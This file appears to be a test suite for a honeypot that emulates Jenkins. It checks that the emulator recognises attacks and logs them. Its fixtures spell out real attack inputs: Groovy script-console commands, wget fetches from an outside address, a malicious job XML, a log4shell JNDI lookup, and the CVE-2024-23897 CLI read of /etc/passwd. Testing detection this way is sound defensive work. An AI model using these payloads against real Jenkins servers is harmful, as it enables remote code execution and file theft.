"""Jenkins: its script console, jobs, logins, and the command line that reads files for anybody."""

from __future__ import annotations

import struct
from urllib.parse import quote

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols._base import Claim
from eudaemon.protocols.jenkins import Jenkins, cli
from eudaemon.protocols.jenkins.room import ANSWER_BYTES_MAX, SCRIPT_BYTES_MAX
from eudaemon.protocols.jenkins.server import server_of
from eudaemon.testing.script import Table, play, visit
from eudaemon.wire import PeerError
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed

HOST = Host.from_seed(Seed(b"test"))


def talk(memory: Memory | None = None) -> Table:
    return Table(Jenkins(visit(host=HOST, port=8082, memory=memory))).open()


def post(path: str, body: bytes | str, headers: str = "") -> bytes:
    content = body.encode() if isinstance(body, str) else body
    return f"POST {path} HTTP/1.1\r\nHost: a\r\n{headers}Content-Length: {len(content)}\r\n\r\n".encode() + content


SCRIPT = "script=" + quote('println "id".execute().text')
CONSOLE = rf"""
> GET /script HTTP/1.1\r\nHost: a\r\n\r\n
*
> POST /script HTTP/1.1\r\nHost: a\r\nContent-Length: {len(SCRIPT)}\r\n\r\n{SCRIPT}
*
! exploit.recognised name='jenkins-script' command='id'
^ script jenkins-script {b'println "id".execute().text'.hex()}
! command.entered line='id'
> GET /login HTTP/1.1\r\nHost: a\r\n\r\n
*
> POST /j_acegi_security_check HTTP/1.1\r\nHost: a\r\nContent-Length: 32\r\n\r\nj_username=admin&j_password=a%21
*
! login.tried user='admin' password='a!'
> GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: ${{jndi:rmi://198.51.100.7/o}}\r\n\r\n
*
! exploit.recognised name='log4shell'
? rmi://198.51.100.7/o
= failed
"""


@pytest.mark.parametrize("split", [0, 1])
def test_the_console_and_what_is_around_it(split: int) -> None:
    table = play(Jenkins, CONSOLE, split=split, given=visit(host=HOST, port=8082))
    assert b"<h2>Result</h2><pre>uid=0(root)" in table.sent
    assert f"X-Jenkins: {server_of(HOST).version}\r\n".encode() in table.sent
    assert [type(fact) for fact in table.facts].count(LoginTried) == 1


@pytest.mark.parametrize(
    ("path", "script", "command"),
    [
        ("/scriptText", '["sh","-c","wget http://198.51.100.7/x"].execute()', "wget http://198.51.100.7/x"),
        ("/jenkins/script", 'Runtime.getRuntime().exec("wget http://198.51.100.7/x")', "wget http://198.51.100.7/x"),
        ("/scriptText", "println 7*6", ""),
    ],
)
def test_what_a_script_executes(path: str, script: str, command: str) -> None:
    table = talk()
    table.say(post(path, "script=" + quote(script)))
    (found,) = [fact for fact in table.facts if isinstance(fact, ExploitRecognised)]
    assert found.command == (command or script)
    assert [keep.data for keep in table.kept] == [script.encode()]
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"] * bool(command)
    if command:
        assert not table.sent, "the answer waits for the command"
        table.answer("ok", b"x")
    assert table.sent.startswith(b"HTTP/1.1 200 OK\r\n")
    table.end()


def test_a_syntax_check_and_a_job_run_too() -> None:
    table = talk()
    script = 'public class x{public x(){"wget http://198.51.100.7/x".execute()}}'
    path = f"/securityRealm/user/admin/descriptorByName/a/checkScript?sandbox=true&value={quote(script)}"
    table.say(f"GET {path} HTTP/1.1\r\n\r\n".encode())
    table.answer("ok", b"x")
    job = (
        "<project><hudson.tasks.Shell><command>id &amp;&amp; wget http://198.51.100.7/y</command></hudson.tasks.Shell>"
    )
    table.say(post("/createItem?name=a", job, "Content-Type: text/xml\r\n"))
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/y"]
    names = [(fact.name, fact.command) for fact in table.facts if isinstance(fact, ExploitRecognised)]
    assert names == [
        ("jenkins-check-script", "wget http://198.51.100.7/x"),
        ("jenkins-job", "id && wget http://198.51.100.7/y"),
    ]


def frame(kind: int, content: bytes) -> bytes:
    return struct.pack(">IB", len(content), kind) + content


def argument(text: bytes) -> bytes:
    return frame(0, struct.pack(">H", len(text)) + text)


def ran(*arguments: bytes, given: bytes = b"", first: str = "download") -> tuple[Table, bytes]:
    """Run a command line over two connections, as its clients do; return what spoke, and what the other heard."""
    memory = Memory()
    listens, speaks = talk(memory), talk(memory)
    body = b"".join(map(argument, arguments)) + (frame(5, given) if given else b"") + frame(3, b"")
    sides = {"download": (listens, b""), "upload": (speaks, body)}
    for side in sorted(sides, key=lambda name: name != first):
        table, content = sides[side]
        table.say(post("/cli?remoting=false", content, f"Session: 0f0f-11\r\nSide: {side}\r\n"))
    listens.wait(1)
    assert speaks.sent.startswith(b"HTTP/1.1 200 OK\r\n")
    return speaks, listens.sent.partition(b"\r\n\r\n")[2]


@pytest.mark.parametrize("first", ["download", "upload"])
def test_a_file_stands_for_arguments(first: str) -> None:
    speaks, heard = ran(b"help", b"@/etc/passwd", first=first)
    assert heard[:1] == b"\0"
    assert b"\x08\nERROR: Too many arguments: " in heard
    assert heard.endswith(frame(4, (2).to_bytes(4, "big")))
    assert ExploitRecognised("jenkins-cli-file", "CVE-2024-23897", "help @/etc/passwd") in speaks.facts
    assert b'No such agent "root:x:0:0:' in ran(b"connect-node", b"@/etc/passwd")[1]
    assert b"ERROR: No such file: /none" in ran(b"who-am-i", b"@/none")[1]
    assert b"Too many arguments: root:" in ran(b"who-am-i", b"@/etc/passwd")[1]
    assert b"No such file: /etc" in ran(b"help", b"@/etc")[1]


def test_the_command_line_runs_groovy() -> None:
    speaks, heard = ran(b"groovy", b"=", given=b'println "id".execute().text')
    assert b"\x07uid=0(root)" in heard
    assert CommandEntered("id") in speaks.facts
    assert b"anonymous" in ran(b"who-am-i")[1]
    assert server_of(HOST).version.encode() in ran(b"version")[1]
    assert b"No such command nonsense" in ran(b"nonsense")[1]


def test_limits() -> None:
    assert len(cli.asked_by(argument(b"a") * (cli.ARGUMENTS_MAX + 1)).arguments) == cli.ARGUMENTS_MAX
    assert cli.asked_by(frame(9, b"") * (cli.FRAMES_MAX - 1)).arguments == []
    with pytest.raises(PeerError):
        cli.asked_by(frame(9, b"") * (cli.FRAMES_MAX + 1))
    content = b"".join(b"line %d\n" % number for number in range(cli.LINES_MAX + 1))
    shown = cli.complained(cli.Asked([b"connect-node", b"@/x"]), content)
    assert b'"line %d"' % (cli.LINES_MAX - 1) in shown
    assert b'"line %d"' % cli.LINES_MAX not in shown
    table = talk()
    assert table.say(post("/cli", b"", "Session: " + "a" * 65 + "\r\n")).startswith(b"HTTP/1.1 400 ")


@pytest.mark.parametrize("past", [0, 1])
def test_what_is_kept_and_told_has_its_limits(past: int) -> None:
    table = talk()
    table.say(post("/scriptText", "script=" + "x" * (SCRIPT_BYTES_MAX - 7 + past)))
    assert [len(keep.data) for keep in table.kept] == [SCRIPT_BYTES_MAX - 7]
    script = b'println "head -c %d /dev/zero".execute().text' % (ANSWER_BYTES_MAX + past)
    _, heard = ran(b"groovy", b"=", given=script)
    assert heard.count(b"\0") >= ANSWER_BYTES_MAX
    assert struct.unpack(">I", heard[1:5]) == (ANSWER_BYTES_MAX,)


def test_no_two_installations_are_alike() -> None:
    servers = [server_of(Host.from_seed(Seed(b"%d" % number))) for number in range(24)]
    assert len({server.identity for server in servers}) == 24
    assert len({server.version for server in servers}) > 5


def test_whose_first_bytes_they_are() -> None:
    assert Jenkins.claim(b"POST /script HTTP/1.1\r\n") is Claim.YES
    assert Jenkins.claim(b"GET / HTTP/1.1\r\n") is Claim.UNSURE
    assert Jenkins.claim(b"SSH-2.0-x") is Claim.NO
